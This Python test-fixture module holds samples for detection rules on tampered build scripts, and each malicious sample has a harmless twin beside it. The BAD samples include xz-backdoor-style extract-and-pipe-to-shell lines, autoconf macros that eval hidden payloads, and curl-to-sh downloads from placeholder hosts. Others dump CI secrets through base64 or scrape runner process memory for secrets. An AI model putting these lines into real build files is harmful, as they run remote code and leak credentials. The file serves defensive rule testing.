"""Samples of tampered build scripts, and harmless twins close to them; ``¦`` marks cuts."""

from __future__ import annotations

from tests.examine.yara.samples.support import joined

BAD: dict[str, list[bytes]] = {
    "RG-BLD-0001": [
        joined('i="((head -c +1024 >/dev/null) && hea¦d -c +2048 && (head -c +1024 >/dev/null) && head -c +2048)"\n'),
    ],
    "RG-BLD-0002": [
        joined('sed "r\\n" $f | tr "\\t \\-_" " \\t_\\-" | x¦z -d 2>/dev/null | bash\n'),
    ],
    "RG-BLD-0003": [
        joined("cat $srcdir/tests/files/bad-3.x¦z | t¦a¦i¦l -c +100 | xz -dc | sh\n"),
    ],
    "RG-BLD-0004": [
        joined(
            "AC_D¦EFUN([gl_X], [\n"
            ' g=`grep -aErl¦s "mark" $srcdir/ 2>/dev/null`\n'
            " eval $cm¦d | $SHE¦L¦L 2>/dev/null\n"
            "])\n"
        ),
    ],
    "RG-BLD-0005": [
        joined(
            'AC_D¦EFUN([gl_BUILD_TO_HOST], [\n gl_config=`grep -aErl¦s "#{4}[[:a¦l¦n¦u¦m:]]{5}#{4}$" $srcdir/`\n])\n'
        ),
    ],
    "RG-BLD-0006": [
        joined('execute_process(COMMAND sh -c "c¦u¦rl -s h¦ttps://x.i¦nvalid/a | sh")\n'),
        joined('file(DOWNLOAD "http://19¦2.0.2.1/a" a)\nexecute_process(COMMAND a)\n'),
    ],
    "RG-BLD-0007": [
        joined("X := $(she¦ll cu¦rl -s h¦ttp¦s://x.i¦nvalid/a | sh)\n"),
    ],
    "RG-BLD-0008": [
        joined(
            "jobs:\n"
            "  x:\n"
            "    run¦s-on: ubuntu-latest\n"
            "    steps:\n"
            '      - run: echo "${{ toJSON(s¦ecrets) }}" | bas¦e64\n'
        ),
    ],
    "RG-BLD-0009": [
        joined(
            "pid = find('Runne¦r.Worker')\n"
            "mem = open(f'/pro¦c/{p¦i¦d}/mem', 'rb')\n"
            "print(re.findall(rb'isSe¦cret', mem.read()))\n"
        ),
    ],
}
"""Samples that a rule must find, by the rule's id."""

BENIGN: dict[str, list[bytes]] = {
    "RG-BLD-0001": [
        joined("head -c 1024 file > first && tail -c +1025 file > rest\n"),
    ],
    "RG-BLD-0002": [
        joined('cat names | tr "a-z" "A-Z" | gzip -c > names.gz\n'),
    ],
    "RG-BLD-0003": [
        joined("cat $srcdir/tests/files/good-1.xz | xz -dc | cmp - expected\n"),
    ],
    "RG-BLD-0004": [
        joined('AC_D¦EFUN([gl_X], [\n v=`grep -E "v¦e¦r¦s¦i¦o¦n" $s¦rcdir/VERSION`\n eval "$v"\n])\n'),
    ],
    "RG-BLD-0005": [
        joined('AC_D¦EFUN([gl_BUILD_TO_HOST], [\n gl_config=`grep -aErl¦s "[[:a¦l¦n¦u¦m:]]{5}" $srcdir/`\n])\n'),
    ],
    "RG-BLD-0006": [
        joined("execute_process(COMMAND git rev-parse HEAD OUTPUT_VARIABLE rev)\n"),
        joined('file(DOWNLOAD "https://example.org/a.zip" a.zip)\n'),
    ],
    "RG-BLD-0007": [
        joined("X := $(she¦ll git describe)\n"),
        joined("get:\n\tcu¦rl -s h¦ttps://example.org/a -o a\n"),
    ],
    "RG-BLD-0008": [
        joined(
            "jobs:\n"
            "  x:\n"
            "    run¦s-on: ubuntu-latest\n"
            "    steps:\n"
            '      - run: echo "${{ toJSON(github) }}" | bas¦e64\n'
        ),
    ],
    "RG-BLD-0009": [
        joined("pid = find('Runne¦r.Worker')\nprint(open(f'/proc/{pid}/status').read())\n"),
    ],
}
"""Harmless content that is like a rule's samples, by the rule's id."""
